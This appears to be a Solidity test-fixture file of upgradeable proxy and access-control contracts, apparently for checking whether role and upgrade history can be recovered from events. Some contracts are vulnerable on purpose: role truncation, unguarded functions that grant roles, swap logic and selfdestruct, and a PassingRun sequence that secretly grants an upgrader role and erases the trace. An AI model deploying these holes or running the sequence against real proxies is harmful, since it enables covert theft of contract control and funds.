// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {AccessControl} from "openzeppelin-contracts-4/access/AccessControl.sol";
import {Initializable} from "openzeppelin-contracts-4/proxy/utils/Initializable.sol";
import {ADMIN, BEACON, Forwarding, LOGIC} from "./Base.sol";

// Code that ran before filled the table of roles, and what is left of it does not show that.

bytes32 constant UPGRADER = keccak256("UPGRADER_ROLE");

/// Members of the default role grant the role whose members upgrade. An event reports all logic.
abstract contract ReportedRoles is AccessControl, Initializable {
    event Upgraded(address indexed implementation);
    function initialize(address owner) external initializer { _setUp(owner); }
    function _setUp(address owner) internal virtual {
        _grantRole(DEFAULT_ADMIN_ROLE, owner);
        _grantRole(UPGRADER, owner);
    }
    function _slotOf(bytes32 role, address account) internal pure returns (bytes32) {
        return keccak256(abi.encode(account, keccak256(abi.encode(role, uint256(0)))));
    }
}
abstract contract UpgradingRoles is ReportedRoles {
    address private immutable self = address(this);
    function proxiableUUID() external pure returns (bytes32) { return LOGIC; }
    function upgradeToAndCall(address next, bytes calldata data) external payable {
        require(address(this) != self);
        _authorize();
        assembly { sstore(LOGIC, next) }
        emit Upgraded(next);
        if (data.length == 0) return;
        (bool ok,) = next.delegatecall(data);
        require(ok);
    }
    function _authorize() internal view virtual onlyRole(UPGRADER) {}
}
contract HonestRoles is UpgradingRoles {}

/// Members of the default role upgrade. An initializer stores a further role.
abstract contract DefaultRoles is UpgradingRoles {
    function initializeRole(bytes32 role, address account) external reinitializer(2) { _store(role, account); }
    function _store(bytes32 role, address account) internal virtual;
    function _authorize() internal view override onlyRole(DEFAULT_ADMIN_ROLE) {}
}
/// Stores the role without its upper bits.
contract CutRoles is DefaultRoles {
    function _store(bytes32 role, address account) internal override {
        bytes32 slot = _slotOf(bytes32(uint256(uint160(uint256(role)))), account);
        assembly { sstore(slot, 1) }
        emit RoleGranted(role, account, msg.sender);
    }
}

/// Stores the role as it is.
contract WholeRoles is DefaultRoles {
    function _store(bytes32 role, address account) internal override {
        bytes32 slot = _slotOf(role, account);
        assembly { sstore(slot, 1) }
        emit RoleGranted(role, account, msg.sender);
    }
}

/// Stores a role without an event, and makes way for other code.
contract QuietRoles {
    event Upgraded(address indexed implementation);
    function proxiableUUID() external pure returns (bytes32) { return LOGIC; }
    function hide(address account) external {
        bytes32 slot = keccak256(abi.encode(account, keccak256(abi.encode(UPGRADER, uint256(0)))));
        assembly { sstore(slot, 1) }
    }
    function setBeacon(address next) external { assembly { sstore(BEACON, next) } emit Upgraded(next); }
    function setLogic(address next) external { assembly { sstore(LOGIC, next) } emit Upgraded(next); }
    function destroy() external { selfdestruct(payable(msg.sender)); }
}

/// Members of a role make calls. The owner has that role.
contract ActingRoles is ReportedRoles {
    address public owner;
    function _setUp(address owner_) internal override { super._setUp(owner_); owner = owner_; }
    function settle(address owner_) external onlyRole(UPGRADER) { owner = owner_; }
    function act(address target, bytes calldata data) external onlyRole(UPGRADER) { (bool ok,) = target.call(data); require(ok); }
}
/// The same, and members choose the beacon, which is reported by the event of an upgrade.
contract ActingBeaconRoles is ActingRoles {
    function setBeacon(address next) external onlyRole(UPGRADER) { assembly { sstore(BEACON, next) } emit Upgraded(next); }
}
interface Named { function implementation() external view returns (address); }
contract RoleBeacon {
    address private immutable logic;
    constructor(address logic_) { logic = logic_; }
    function implementation() external view returns (address) { return logic; }
}
/// Takes its logic from the beacon in its slot.
contract RoleBeaconProxy is Forwarding {
    constructor(address beacon) { assembly { sstore(BEACON, beacon) } }
    fallback() external payable {
        address beacon;
        assembly { beacon := sload(BEACON) }
        _delegate(Named(beacon).implementation());
    }
}
/// A proxy whose administrator replaces the logic, with an event, and itself.
contract ReportingProxy is Forwarding {
    event Upgraded(address indexed implementation);
    constructor(address logic) { assembly { sstore(LOGIC, logic) sstore(ADMIN, caller()) } }
    modifier onlyAdmin() {
        address admin;
        assembly { admin := sload(ADMIN) }
        require(msg.sender == admin);
        _;
    }
    function replaceLogic(address next) external onlyAdmin { assembly { sstore(LOGIC, next) } emit Upgraded(next); }
    function replaceAdmin(address next) external onlyAdmin { assembly { sstore(ADMIN, next) } }
    fallback() external payable { address logic; assembly { logic := sload(LOGIC) } _delegate(logic); }
}
/// Answers in the fallback function.
contract FallbackRoleBeacon {
    address private immutable logic;
    constructor(address logic_) { logic = logic_; }
    fallback(bytes calldata) external returns (bytes memory) { return abi.encode(logic); }
}

interface Upgrading {
    function upgradeToAndCall(address next, bytes calldata data) external;
    function setLogic(address next) external;
}
interface Making { function make(address code) external returns (address); }
/// Runs code on the storage of a proxy that destroys itself at the end of the transaction which created it.
contract PassingRun {
    function run(Making factory, address code, Upgrading proxy, address next, address account) external {
        address at = factory.make(code);
        proxy.upgradeToAndCall(at, abi.encodeCall(QuietRoles.hide, (account)));
        proxy.setLogic(next);
        QuietRoles(at).destroy();
    }
}
